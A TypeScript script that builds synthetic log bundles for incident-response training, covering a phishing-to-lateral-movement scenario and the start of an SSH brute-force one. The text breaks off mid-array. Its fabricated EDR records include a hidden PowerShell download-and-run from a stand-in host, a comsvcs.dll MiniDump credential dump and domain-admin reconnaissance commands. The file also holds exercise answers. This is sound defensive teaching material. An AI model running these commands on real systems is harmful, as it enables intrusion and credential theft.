// Writes the example exercise bundles under examples/exercises/, unpacked (one folder each, so
// that git shows their changes line by line): `node scripts/generate-example-exercises.ts`.
// Deterministic: a seeded generator and fixed dates, so running it again changes nothing.

import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { ExerciseBundle } from '../src/exercises/bundle/bundle-schema.ts';
import { resolveBundle } from '../src/exercises/bundle/bundle-schema.ts';
import { BUNDLE_YAML, bundleFilePath, bundleYaml } from '../src/exercises/bundle/bundle-write.ts';

/** The examples' folder names under examples/exercises/. */
export const EXAMPLE_EXERCISES = ['phishing-to-lateral-movement', 'ssh-brute-force'] as const;

/** Every file of the examples, by path relative to examples/exercises/ (README.md not included). */
export function exampleExerciseFiles(): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  for (const [name, example] of [
    ['phishing-to-lateral-movement', phishingExample()],
    ['ssh-brute-force', sshExample()],
  ] as const) {
    files.set(`${name}/${BUNDLE_YAML}`, Buffer.from(bundleYaml(resolveBundle(example.bundle))));
    for (const [file, text] of example.archives) files.set(`${name}/${file}`, Buffer.from(text));
  }
  return files;
}

/** Writes the examples into `outDir` (normally examples/exercises), replacing their folders. */
export async function writeExampleExercises(outDir: string): Promise<void> {
  for (const name of EXAMPLE_EXERCISES) await rm(path.join(outDir, name), { recursive: true, force: true });
  for (const [file, bytes] of exampleExerciseFiles()) {
    const target = path.join(outDir, file);
    await mkdir(path.dirname(target), { recursive: true });
    await writeFile(target, bytes);
  }
}

interface Example {
  readonly bundle: ExerciseBundle;
  readonly archives: Map<string, string>;
}

// ---------------------------------------------------------------------------------------------
// Shared helpers

/** mulberry32: small, fast and the same everywhere. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = (): number => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (min: number, max: number): number => min + Math.floor(next() * (max - min + 1));
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  const hex = (length: number): string => Array.from({ length }, () => int(0, 15).toString(16)).join('');
  return { next, int, pick, hex };
}
type Random = ReturnType<typeof prng>;

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, width = 2) => String(n).padStart(width, '0');

/** RFC 3164 timestamp: `Mar 14 09:12:03` (day padded with a space). */
function syslogTime(ms: number): string {
  const d = new Date(ms);
  const day = String(d.getUTCDate()).padStart(2, ' ');
  return `${MONTHS[d.getUTCMonth()]} ${day} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

/** `MMM dd yyyy HH:mm:ss`. */
function devTime(ms: number): string {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()]} ${pad(d.getUTCDate())} ${d.getUTCFullYear()} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

type Attrs = ReadonlyArray<readonly [string, string | number]>;

interface LeefHeader {
  readonly pri: number;
  readonly host: string;
  readonly version: '1.0' | '2.0';
  readonly vendor: string;
  readonly product: string;
  readonly productVersion: string;
}

/** One LEEF line with its syslog header; LEEF 2.0 names the tab delimiter (`x09`). */
function leef(h: LeefHeader, ms: number, eventId: string, attrs: Attrs): { ms: number; line: string } {
  const head = `<${h.pri}>${syslogTime(ms)} ${h.host} LEEF:${h.version}|${h.vendor}|${h.product}|${h.productVersion}|${eventId}|`;
  const body = attrs.map(([k, v]) => `${k}=${String(v).replace(/[\t\r\n]/g, ' ')}`).join('\t');
  return { ms, line: h.version === '2.0' ? `${head}x09|${body}` : `${head}${body}` };
}

/** Lines in time order (stable for equal times), newline-terminated. */
function logText(lines: ReadonlyArray<{ ms: number; line: string }>): string {
  return `${[...lines]
    .map((l, i) => ({ ...l, i }))
    .sort((a, b) => a.ms - b.ms || a.i - b.i)
    .map((l) => l.line)
    .join('\n')}\n`;
}

const MINUTE = 60_000;

// ---------------------------------------------------------------------------------------------
// Example 1: phishing to lateral movement (LEEF)

const CORP = 'northwind.example';
const PHISH_DOMAIN = 'northwind-benefits.example';
const PHISH_SENDER = 'payroll@northwlnd.example';
const PHISH_URL = `https://${PHISH_DOMAIN}/portal/2026/enroll.php?id=8f3a1c`;
const PHISH_DOWNLOAD = `https://${PHISH_DOMAIN}/portal/2026/files/Benefits_Enrollment_2026.zip`;
const STAGER_URL = 'http://cdn-telemetry.example/u/update.bin';
const C2_IP = '203.0.113.77';
const VICTIM = 'j.morales';
const VICTIM_HOST = 'WS-0457';
const VICTIM_IP = '10.20.4.57';
const STOLEN = 'svc_backup';
const FILE_SERVER = { name: 'FS01', ip: '10.20.8.11' };
const DOMAIN_CONTROLLER = { name: 'DC01', ip: '10.20.8.2' };

function phishingExample(): Example {
  const r = prng(0x50c0_2026);
  const base = Date.UTC(2026, 2, 14, 8, 30, 0);
  const at = (h: number, m: number, s: number) => Date.UTC(2026, 2, 14, h, m, s);
  const payloadHash = r.hex(64);

  const lastNames = [
    'chen',
    'patel',
    'novak',
    'okafor',
    'silva',
    'berg',
    'kowalski',
    'haddad',
    'nguyen',
    'larsen',
    'dubois',
    'rossi',
    'tanaka',
    'kim',
    'muller',
    'schmidt',
    'garcia',
    'olsen',
    'ivanova',
    'brennan',
    'walsh',
    'costa',
    'meyer',
    'fischer',
    'jansen',
    'ahmed',
    'lopez',
    'moreau',
    'weber',
    'park',
  ];
  const users = lastNames.map((n, i) => `${'arjmskdlnteopbhcgfwv'[i % 20]}.${n}`);
  users.push(VICTIM);
  const hostOf = new Map(users.map((u, i) => [u, u === VICTIM ? VICTIM_HOST : `WS-04${pad(10 + i)}`]));
  const ipOf = (host: string) => (host === VICTIM_HOST ? VICTIM_IP : `10.20.4.${Number(host.slice(-2))}`);

  // Section 1: mail gateway and web proxy ------------------------------------------------------
  const mailgw: LeefHeader = {
    pri: 134,
    host: 'mailgw01',
    version: '2.0',
    vendor: 'Proofpoint',
    product: 'Email Protection',
    productVersion: '8.21',
  };
  const senders = [
    'no-reply@github.com',
    'notifications@atlassian.net',
    'invoice@supplier-orbis.example',
    'news@industry-weekly.example',
    'hr@northwind.example',
    'it-service@northwind.example',
    'calendar@northwind.example',
    'team@slack.com',
    'billing@aws.amazon.com',
  ];
  const subjects = [
    'Weekly status',
    'Invoice 2026-0311',
    'Re: Q1 planning',
    'Your pull request was merged',
    'Meeting moved to 14:00',
    'Password expiry reminder',
    'Newsletter March 2026',
    'Re: supplier onboarding',
    'Build failed: main',
    'Lunch on Friday?',
  ];
  const mail: { ms: number; line: string }[] = [];
  const mailLine = (
    ms: number,
    from: string,
    to: string,
    subject: string,
    verdict: string,
    score: number,
    url: string | null,
    srcIp: string,
  ) =>
    leef(mailgw, ms, verdict === 'quarantine' ? 'message_quarantined' : 'message_delivered', [
      ['devTime', devTime(ms)],
      ['devTimeFormat', 'MMM dd yyyy HH:mm:ss'],
      ['cat', 'mail'],
      ['src', srcIp],
      ['dst', '10.20.1.25'],
      ['suser', from],
      ['duser', to.includes('@') ? to : `${to}@${CORP}`],
      ['usrName', to],
      ['msgSubject', subject],
      ['spamScore', score],
      ['phishScore', verdict === 'quarantine' ? 95 : score > 50 ? 40 : r.int(0, 8)],
      ['action', verdict],
      ['messageId', `<${r.hex(16)}@${from.split('@')[1]}>`],
      ...(url === null ? [] : [['urls', url] as const]),
      ['size', r.int(4_000, 180_000)],
    ]);
  for (let i = 0; i < 260; i++) {
    const ms = base + r.int(0, 75 * MINUTE);
    const quarantined = r.next() < 0.04;
    const from = quarantined ? `promo${r.int(10, 99)}@bulk-deals.example` : r.pick(senders);
    mail.push(
      mailLine(
        ms,
        from,
        r.pick(users),
        quarantined ? 'You have won a gift card' : r.pick(subjects),
        quarantined ? 'quarantine' : 'deliver',
        quarantined ? r.int(80, 99) : r.int(0, 30),
        null,
        `198.51.100.${r.int(2, 250)}`,
      ),
    );
  }
  for (const [i, to] of [VICTIM, 'a.chen', 'r.patel'].entries()) {
    mail.push(
      mailLine(
        at(9, 12, 3 + i),
        PHISH_SENDER,
        to,
        'Action required: 2026 benefits enrollment closes today',
        'deliver',
        41,
        PHISH_URL,
        '192.0.2.146',
      ),
    );
  }

  const proxy: LeefHeader = {
    pri: 134,
    host: 'zproxy02',
    version: '1.0',
    vendor: 'Zscaler',
    product: 'NSSWeblog',
    productVersion: '6.1',
  };
  const sites = [
    'https://outlook.office365.com/mail/',
    'https://teams.microsoft.com/api/chatsvc/',
    'https://www.google.com/search?q=quarterly+report+template',
    'https://github.com/northwind/infra/pulls',
    'https://northwind.atlassian.net/browse/OPS-1182',
    'https://slack.com/api/conversations.history',
    'https://www.bbc.com/news',
    'https://login.microsoftonline.com/common/oauth2/authorize',
    'https://cdn.jsdelivr.net/npm/chart.js',
    'https://update.googleapis.com/service/update2/json',
    'https://www.linkedin.com/feed/',
    'https://docs.python.org/3/library/json.html',
    'https://stackoverflow.com/questions/tagged/powershell',
    'https://weather.com/weather/today',
    'https://www.dropbox.com/home',
  ];
  const proxyLine = (
    ms: number,
    user: string,
    url: string,
    method: string,
    status: number,
    category: string,
    action: string,
    ctype: string,
    bytes: number,
  ) => {
    const host = new URL(url).hostname;
    return leef(proxy, ms, action === 'Blocked' ? 'web_blocked' : 'web_allowed', [
      ['devTime', devTime(ms)],
      ['devTimeFormat', 'MMM dd yyyy HH:mm:ss'],
      ['src', ipOf(hostOf.get(user) ?? VICTIM_HOST)],
      ['dst', `198.51.100.${(host.length * 7) % 250}`],
      ['usrName', `${user}@${CORP}`],
      ['srcHost', hostOf.get(user) ?? ''],
      ['url', url],
      ['dhost', host],
      ['requestMethod', method],
      ['status', status],
      ['urlcategory', category],
      ['action', action],
      ['contenttype', ctype],
      ['respsize', bytes],
      ['ua', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0 Safari/537.36'],
    ]);
  };
  const web: { ms: number; line: string }[] = [];
  for (let i = 0; i < 640; i++) {
    const url = r.pick(sites);
    const blocked = r.next() < 0.02;
    web.push(
      proxyLine(
        base + r.int(0, 75 * MINUTE),
        r.pick(users),
        blocked ? `http://free-streams-${r.int(1, 9)}.example/live` : url,
        r.next() < 0.8 ? 'GET' : 'POST',
        blocked ? 403 : r.pick([200, 200, 200, 204, 304]),
        blocked ? 'Streaming Media' : 'Business and Economy',
        blocked ? 'Blocked' : 'Allowed',
        'text/html',
        r.int(300, 250_000),
      ),
    );
  }
  web.push(
    proxyLine(
      at(9, 14, 27),
      VICTIM,
      PHISH_URL,
      'GET',
      200,
      'Newly Registered Domains',
      'Allowed',
      'text/html',
      18_422,
    ),
  );
  web.push(
    proxyLine(
      at(9, 14, 29),
      VICTIM,
      `https://${PHISH_DOMAIN}/portal/2026/static/logo.png`,
      'GET',
      200,
      'Newly Registered Domains',
      'Allowed',
      'image/png',
      7_310,
    ),
  );
  web.push(
    proxyLine(
      at(9, 14, 41),
      VICTIM,
      PHISH_DOWNLOAD,
      'GET',
      200,
      'Newly Registered Domains',
      'Allowed',
      'application/zip',
      412_889,
    ),
  );
  web.push(proxyLine(at(9, 21, 8), 'r.patel', PHISH_URL, 'GET', 403, 'Phishing', 'Blocked', 'text/html', 0));

  // Section 2: EDR and firewall ----------------------------------------------------------------
  const edr: LeefHeader = {
    pri: 132,
    host: 'edr-collector01',
    version: '1.0',
    vendor: 'CrowdStrike',
    product: 'FalconHost',
    productVersion: '7.10',
  };
  const edrLine = (ms: number, kind: string, host: string, user: string, attrs: Attrs) =>
    leef(edr, ms, kind, [
      ['devTime', ms],
      ['resource', host],
      ['src', ipOf(host)],
      ['usrName', `NORTHWIND\\${user}`],
      ...attrs,
    ]);
  const benignProcs = [
    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Windows\\explorer.exe'],
    ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\services.exe'],
    ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\svchost.exe'],
    ['C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', 'C:\\Windows\\explorer.exe'],
    ['C:\\Windows\\System32\\taskhostw.exe', 'C:\\Windows\\System32\\svchost.exe'],
    ['C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 'C:\\Windows\\explorer.exe'],
    ['C:\\Windows\\System32\\conhost.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ] as const;
  const endpoint: { ms: number; line: string }[] = [];
  const execStart = at(9, 14, 0);
  for (let i = 0; i < 900; i++) {
    const user = r.pick(users);
    const host = hostOf.get(user) ?? VICTIM_HOST;
    const [image, parent] = r.pick(benignProcs);
    const ms = execStart + r.int(0, 80 * MINUTE);
    if (r.next() < 0.75) {
      endpoint.push(
        edrLine(ms, 'ProcessRollup2', host, user, [
          ['cat', 'process'],
          ['ImageFileName', image.replace('{u}', user)],
          ['ParentImageFileName', parent],
          ['CommandLine', `"${image.replace('{u}', user)}"`],
          ['SHA256HashData', r.hex(64)],
          ['ProcessId', r.int(1000, 30000)],
        ]),
      );
    } else {
      endpoint.push(
        edrLine(ms, 'NetworkConnectIP4', host, user, [
          ['cat', 'network'],
          ['ImageFileName', image.replace('{u}', user)],
          ['dst', `198.51.100.${r.int(2, 250)}`],
          ['dstPort', r.pick([443, 443, 443, 80])],
          ['proto', 'TCP'],
        ]),
      );
    }
  }
  const victimProc = (ms: number, image: string, parent: string, cmd: string, hash: string) =>
    endpoint.push(
      edrLine(ms, 'ProcessRollup2', VICTIM_HOST, VICTIM, [
        ['cat', 'process'],
        ['ImageFileName', image],
        ['ParentImageFileName', parent],
        ['CommandLine', cmd],
        ['SHA256HashData', hash],
        ['ProcessId', r.int(1000, 30000)],
      ]),
    );
  const dropped = `C:\\Users\\${VICTIM}\\AppData\\Roaming\\Microsoft\\Teams\\msteams_update.exe`;
  const script = `C:\\Users\\${VICTIM}\\Downloads\\Benefits_Enrollment_2026\\Benefits_Enrollment_2026.js`;
  victimProc(
    at(9, 15, 10),
    'C:\\Windows\\System32\\wscript.exe',
    'C:\\Windows\\explorer.exe',
    `"C:\\Windows\\System32\\WScript.exe" "${script}"`,
    r.hex(64),
  );
  victimProc(
    at(9, 15, 12),
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'C:\\Windows\\System32\\wscript.exe',
    `powershell.exe -nop -w hidden -c "iwr ${STAGER_URL} -OutFile $env:APPDATA\\Microsoft\\Teams\\msteams_update.exe; start $env:APPDATA\\Microsoft\\Teams\\msteams_update.exe"`,
    r.hex(64),
  );
  endpoint.push(
    edrLine(at(9, 15, 19), 'NewExecutableWritten', VICTIM_HOST, VICTIM, [
      ['cat', 'file'],
      ['TargetFileName', dropped],
      ['SHA256HashData', payloadHash],
      ['Size', 241_664],
    ]),
  );
  victimProc(
    at(9, 15, 22),
    dropped,
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    `"${dropped}" --silent`,
    payloadHash,
  );
  for (let ms = at(9, 15, 31); ms < at(10, 34, 0); ms += 60_000 + r.int(-9_000, 9_000)) {
    endpoint.push(
      edrLine(ms, 'NetworkConnectIP4', VICTIM_HOST, VICTIM, [
        ['cat', 'network'],
        ['ImageFileName', dropped],
        ['dst', C2_IP],
        ['dstPort', 443],
        ['proto', 'TCP'],
      ]),
    );
  }
  victimProc(
    at(9, 41, 5),
    'C:\\Windows\\System32\\rundll32.exe',
    dropped,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\ms.dmp full',
    r.hex(64),
  );
  victimProc(
    at(9, 52, 40),
    'C:\\Windows\\System32\\net.exe',
    dropped,
    'net group "Domain Admins" /domain',
    r.hex(64),
  );
  victimProc(
    at(9, 53, 2),
    'C:\\Windows\\System32\\nltest.exe',
    dropped,
    'nltest /dclist:northwind',
    r.hex(64),
  );
  victimProc(
    at(9, 54, 17),
    'C:\\Windows\\System32\\net.exe',
    dropped,
    `net view \\\\${FILE_SERVER.name}`,
    r.hex(64),
  );

  const firewall: LeefHeader = {
    pri: 14,
    host: 'pa-edge01',
    version: '1.0',
    vendor: 'Palo Alto Networks',
    product: 'PAN-OS Syslog Integration',
    productVersion: '11.1',
  };
  const fwLine = (
    ms: number,
    src: string,
    dst: string,
    port: number,
    app: string,
    action: string,
    bytes: number,
  ) =>
    leef(firewall, ms, 'TRAFFIC', [
      ['devTime', ms],
      ['cat', 'end'],
      ['src', src],
      ['dst', dst],
      ['srcPort', r.int(49152, 65535)],
      ['dstPort', port],
      ['proto', 'tcp'],
      ['app', app],
      ['action', action],
      ['srcPostNAT', '192.0.2.10'],
      ['totalBytes', bytes],
      ['SrcZone', 'trust'],
      ['DstZone', 'untrust'],
      ['RuleName', action === 'allow' ? 'outbound-web' : 'deny-bad-reputation'],
    ]);
  const traffic: { ms: number; line: string }[] = [];
  for (let i = 0; i < 420; i++) {
    const host = hostOf.get(r.pick(users)) ?? VICTIM_HOST;
    traffic.push(
      fwLine(
        execStart + r.int(0, 80 * MINUTE),
        ipOf(host),
        `198.51.100.${r.int(2, 250)}`,
        r.pick([443, 443, 80, 53]),
        r.pick(['ssl', 'web-browsing', 'ms-office365', 'dns', 'google-base']),
        r.next() < 0.03 ? 'deny' : 'allow',
        r.int(400, 900_000),
      ),
    );
  }
  traffic.push(fwLine(at(9, 15, 13), VICTIM_IP, '198.51.100.201', 80, 'web-browsing', 'allow', 242_310));
  for (let ms = at(9, 15, 32); ms < at(10, 34, 0); ms += 60_000 + r.int(-9_000, 9_000)) {
    traffic.push(fwLine(ms, VICTIM_IP, C2_IP, 443, 'ssl', 'allow', r.int(1_800, 2_600)));
  }

  // Section 3: Windows Security auditing -------------------------------------------------------
  const win = (host: string): LeefHeader => ({
    pri: 13,
    host,
    version: '2.0',
    vendor: 'Microsoft',
    product: 'Windows Security Auditing',
    productVersion: '10.0',
  });
  const winLine = (ms: number, host: string, id: number, attrs: Attrs) =>
    leef(win(host), ms, String(id), [
      ['devTime', devTime(ms)],
      ['devTimeFormat', 'MMM dd yyyy HH:mm:ss'],
      ['EventID', id],
      ...attrs,
    ]);
  const auth: { ms: number; line: string }[] = [];
  const lateralStart = at(9, 55, 0);
  const servers = [
    FILE_SERVER,
    DOMAIN_CONTROLLER,
    { name: 'SQL01', ip: '10.20.8.21' },
    { name: 'APP02', ip: '10.20.8.32' },
  ];
  for (let i = 0; i < 1150; i++) {
    const user = r.pick(users);
    const host = hostOf.get(user) ?? VICTIM_HOST;
    const server = r.pick(servers);
    const ms = lateralStart + r.int(0, 45 * MINUTE);
    const roll = r.next();
    if (roll < 0.45) {
      auth.push(
        winLine(ms, server.name, 4624, [
          ['usrName', user],
          ['domain', 'NORTHWIND'],
          ['logonType', 3],
          ['src', ipOf(host)],
          ['srcHost', host],
          ['LogonProcessName', 'Kerberos'],
          ['AuthenticationPackageName', 'Kerberos'],
          ['TargetLogonId', `0x${r.hex(7)}`],
        ]),
      );
    } else if (roll < 0.75) {
      auth.push(
        winLine(ms, server.name, 4634, [
          ['usrName', user],
          ['domain', 'NORTHWIND'],
          ['logonType', 3],
          ['TargetLogonId', `0x${r.hex(7)}`],
        ]),
      );
    } else if (roll < 0.93) {
      auth.push(
        winLine(ms, DOMAIN_CONTROLLER.name, 4769, [
          ['usrName', `${user}@${CORP.toUpperCase()}`],
          ['ServiceName', `${server.name}$`],
          ['src', `::ffff:${ipOf(host)}`],
          ['TicketEncryptionType', '0x12'],
          ['Status', '0x0'],
        ]),
      );
    } else {
      auth.push(
        winLine(ms, DOMAIN_CONTROLLER.name, 4625, [
          ['usrName', user],
          ['domain', 'NORTHWIND'],
          ['logonType', 3],
          ['src', ipOf(host)],
          ['srcHost', host],
          ['FailureReason', '%%2313'],
          ['Status', '0xc000006d'],
          ['SubStatus', '0xc000006a'],
        ]),
      );
    }
  }
  // svc_backup normally logs on from the backup server at night only; a few of its routine logons.
  for (const minute of [3, 19, 33]) {
    auth.push(
      winLine(lateralStart + minute * MINUTE, FILE_SERVER.name, 4624, [
        ['usrName', STOLEN],
        ['domain', 'NORTHWIND'],
        ['logonType', 3],
        ['src', '10.20.8.40'],
        ['srcHost', 'BKP01'],
        ['LogonProcessName', 'Kerberos'],
        ['AuthenticationPackageName', 'Kerberos'],
        ['TargetLogonId', `0x${r.hex(7)}`],
      ]),
    );
  }
  const lateral = (ms: number, host: string, id: number, attrs: Attrs) =>
    auth.push(winLine(ms, host, id, attrs));
  lateral(at(10, 2, 14), VICTIM_HOST, 4648, [
    ['usrName', VICTIM],
    ['domain', 'NORTHWIND'],
    ['TargetUserName', STOLEN],
    ['TargetDomainName', 'NORTHWIND'],
    ['TargetServerName', FILE_SERVER.name],
    ['ProcessName', dropped],
  ]);
  for (const target of [FILE_SERVER, DOMAIN_CONTROLLER]) {
    const t = target === FILE_SERVER ? at(10, 2, 15) : at(10, 11, 48);
    lateral(t, target.name, 4624, [
      ['usrName', STOLEN],
      ['domain', 'NORTHWIND'],
      ['logonType', 3],
      ['src', VICTIM_IP],
      ['srcHost', VICTIM_HOST],
      ['LogonProcessName', 'NtLmSsp'],
      ['AuthenticationPackageName', 'NTLM'],
      ['TargetLogonId', `0x${r.hex(7)}`],
    ]);
    lateral(t, target.name, 4672, [
      ['usrName', STOLEN],
      ['domain', 'NORTHWIND'],
      ['PrivilegeList', 'SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege'],
    ]);
    lateral(t + 1_000, target.name, 5140, [
      ['usrName', STOLEN],
      ['domain', 'NORTHWIND'],
      ['src', VICTIM_IP],
      ['ShareName', '\\\\*\\ADMIN$'],
    ]);
    lateral(t + 3_000, target.name, 4697, [
      ['usrName', STOLEN],
      ['domain', 'NORTHWIND'],
      ['ServiceName', 'WinSvcUpd'],
      ['ServiceFileName', '%SystemRoot%\\msteams_update.exe'],
      ['ServiceStartType', 3],
      ['ServiceAccount', 'LocalSystem'],
    ]);
  }

  const sectionFile = (ref: string, format: 'leef', filename: string) =>
    bundleFilePath(ref, format, filename);
  const files = {
    mail: sectionFile('delivery', 'leef', 'mail-gateway.log'),
    proxy: sectionFile('delivery', 'leef', 'web-proxy.log'),
    edr: sectionFile('execution', 'leef', 'edr-endpoint.log'),
    fw: sectionFile('execution', 'leef', 'edge-firewall.log'),
    auth: sectionFile('lateral', 'leef', 'windows-security.log'),
  };
  const archives = new Map([
    [files.mail, logText(mail)],
    [files.proxy, logText(web)],
    [files.edr, logText(endpoint)],
    [files.fw, logText(traffic)],
    [files.auth, logText(auth)],
  ]);
  const leefArchive = (file: string, filename: string) => ({ format: 'leef' as const, file, filename });

  const bundle: ExerciseBundle = {
    schema_version: 1,
    title: 'From a phishing link to lateral movement',
    description: [
      'A benefits-enrollment phishing mail reaches three employees of Northwind one March morning.',
      'One of them clicks. Follow the intrusion from the mail gateway to the endpoint and on to the',
      'servers, naming what you find as you go: each finding can open the next part of the logs.',
    ].join('\n'),
    destinations: [],
    convert_to_leef: false,
    deadlock_override: false,
    tags: ['phishing', 'lateral-movement', 'T1566.002', 'T1204.001', 'T1071.001', 'T1021.002', 'T1078'],
    steps: [
      {
        title: 'Triage the mail',
        body: [
          '## What reached the users?',
          '',
          'The help desk got a call about an odd **benefits enrollment** mail. Search the mail gateway',
          'events (`Proofpoint`) for it:',
          '',
          '- Who sent it, and to whom? Compare the sender domain with the company domain carefully.',
          '- Which link does it carry? Report the **domain** it points to.',
        ].join('\n'),
      },
      {
        title: 'Find the click',
        body: [
          '## Did anyone open the link?',
          '',
          'Search the web proxy (`Zscaler`) for the phishing domain. Report the exact **URL** that was',
          'clicked first, and note the workstation and the user. What was downloaded right after?',
          '',
          '> Reporting the domain or the URL releases the endpoint logs.',
        ].join('\n'),
      },
      {
        title: 'Follow the payload',
        body: [
          '## What ran on the workstation?',
          '',
          "In the EDR events (`CrowdStrike`), follow the process tree on the clicking user's host:",
          '',
          '1. Which script started, and what did it download?',
          '2. Report the **SHA-256** of the executable it dropped.',
          '3. The executable talks to the internet at a steady rhythm. Compare with the firewall',
          '   (`Palo Alto Networks`) and report the **IP address** it beacons to.',
        ].join('\n'),
      },
      {
        title: 'Track the stolen account',
        body: [
          '## Where did the attacker go next?',
          '',
          'The payload dumped credentials. Ten minutes after your findings, the Windows Security events',
          'arrive. Look for network logons (type 3) from the workstation with an account that does not',
          'belong there: report the **account** and the first **server** it reached.',
          '',
          'Useful event ids: 4648, 4624, 4672, 5140, 4697.',
        ].join('\n'),
      },
    ],
    artifacts: [
      {
        ref: 'phish-domain',
        name: 'Phishing link domain',
        kind: 'domain',
        values: [PHISH_DOMAIN],
        match: 'case_insensitive',
        points: 10,
        section: 'delivery',
        hint: 'Look at the urls attribute of the messages delivered around 09:12.',
        hint_penalty: 3,
      },
      {
        ref: 'clicked-url',
        name: 'Clicked URL',
        kind: 'url',
        values: [PHISH_URL],
        match: 'normalized',
        points: 15,
        section: 'delivery',
        hint: 'Filter the proxy events on the phishing domain; the first request is the click.',
        hint_penalty: 5,
      },
      {
        ref: 'payload-hash',
        name: 'Payload SHA-256',
        kind: 'hash',
        values: [payloadHash],
        match: 'normalized',
        points: 20,
        section: 'execution',
        hint: 'NewExecutableWritten events carry the hash of what was written.',
        hint_penalty: 8,
      },
      {
        ref: 'c2-ip',
        name: 'Command-and-control IP',
        kind: 'ip',
        values: [C2_IP],
        match: 'normalized',
        points: 15,
        section: 'execution',
        hint: 'Count connections per destination from the infected host: one repeats every minute.',
        hint_penalty: 5,
      },
      {
        ref: 'stolen-account',
        name: 'Stolen account',
        kind: 'user',
        values: [`(?i)(?:northwind\\\\)?${STOLEN}(?:@northwind\\.example)?`],
        match: 'regex',
        points: 20,
        section: 'lateral',
        hint: 'Event 4648 shows explicit credentials used from the workstation.',
        hint_penalty: 8,
      },
      {
        ref: 'first-server',
        name: 'First server reached',
        kind: 'host',
        values: [FILE_SERVER.name, `${FILE_SERVER.name.toLowerCase()}.${CORP}`],
        match: 'case_insensitive',
        points: 10,
        section: 'lateral',
      },
    ],
    sections: [
      {
        ref: 'delivery',
        name: 'Delivery: mail gateway and web proxy',
        position: 1,
        release: null,
        archives: [leefArchive(files.mail, 'mail-gateway.log'), leefArchive(files.proxy, 'web-proxy.log')],
      },
      {
        ref: 'execution',
        name: 'Execution: endpoint and firewall',
        position: 2,
        release: {
          condition: 'artifacts_only',
          delay_minutes: 0,
          artifacts: ['phish-domain', 'clicked-url'],
          gate_mode: 'any',
        },
        archives: [leefArchive(files.edr, 'edr-endpoint.log'), leefArchive(files.fw, 'edge-firewall.log')],
      },
      {
        ref: 'lateral',
        name: 'Lateral movement: Windows authentication',
        position: 3,
        release: {
          condition: 'delay_and_artifacts',
          delay_minutes: 10,
          artifacts: ['c2-ip', 'payload-hash'],
          gate_mode: 'all',
        },
        archives: [leefArchive(files.auth, 'windows-security.log')],
      },
    ],
    archives: [],
  };
  return { bundle, archives };
}

// ---------------------------------------------------------------------------------------------
// Example 2: SSH brute force (ECS NDJSON)

const ATTACKER = '198.51.100.23';
const SSH_HOST = 'bastion-01';
const SSH_USER = 'deploy';
const TOOL_URL = `http://${ATTACKER}:8080/x/kworkerd`;

function sshExample(): Example {
  const r = prng(0x55_48_2026);
  const at = (h: number, m: number, s: number) => Date.UTC(2026, 3, 2, h, m, s);
  const toolHash = r.hex(64);
  type Doc = { ms: number; line: string };
  const doc = (ms: number, fields: Record<string, unknown>): Doc => ({
    ms,
    line: JSON.stringify({ '@timestamp': new Date(ms).toISOString(), ...fields }),
  });
  // `message` holds {port}, filled with the same source port the document carries.
  const sshd = (
    r2: Random,
    ms: number,
    outcome: 'success' | 'failure',
    user: string,
    ip: string,
    text: string,
  ): Doc => {
    const port = r2.int(32768, 60999);
    return doc(ms, {
      event: { category: ['authentication'], action: 'ssh_login', outcome, dataset: 'system.auth' },
      source: { ip, port },
      user: { name: user },
      host: { name: SSH_HOST },
      process: { name: 'sshd', pid: r2.int(20000, 40000) },
      message: text.replace('{port}', String(port)),
    });
  };
  const ops = ['a.kowalski', 'm.tanaka', 'ci-runner', 's.brennan'];
  const access: Doc[] = [];
  const start = at(2, 0, 0);
  for (let i = 0; i < 60; i++) {
    const user = r.pick(ops);
    const ip = `10.40.0.${r.int(10, 60)}`;
    access.push(
      sshd(
        r,
        start + r.int(0, 45 * MINUTE),
        'success',
        user,
        ip,
        `Accepted publickey for ${user} from ${ip} port {port} ssh2: ED25519 SHA256:${r.hex(8)}`,
      ),
    );
  }
  for (let i = 0; i < 90; i++) {
    const ip = `203.0.113.${r.int(2, 250)}`;
    const user = r.pick(['root', 'admin', 'pi', 'test', 'user']);
    access.push(
      sshd(
        r,
        start + r.int(0, 45 * MINUTE),
        'failure',
        user,
        ip,
        `Failed password for invalid user ${user} from ${ip} port {port} ssh2`,
      ),
    );
  }
  for (let i = 0; i < 200; i++) {
    const ms = start + r.int(0, 45 * MINUTE);
    access.push(
      doc(ms, {
        event: { category: ['process'], action: 'cron_run', outcome: 'success', dataset: 'system.syslog' },
        user: { name: 'root' },
        host: { name: SSH_HOST },
        process: { name: 'CRON', pid: r.int(20000, 40000) },
        message: `(root) CMD (${r.pick(['/usr/lib/sysstat/sa1 1 1', 'run-parts /etc/cron.hourly', '/usr/local/bin/backup-rotate --quiet'])})`,
      }),
    );
  }
  const wordlist = [
    'root',
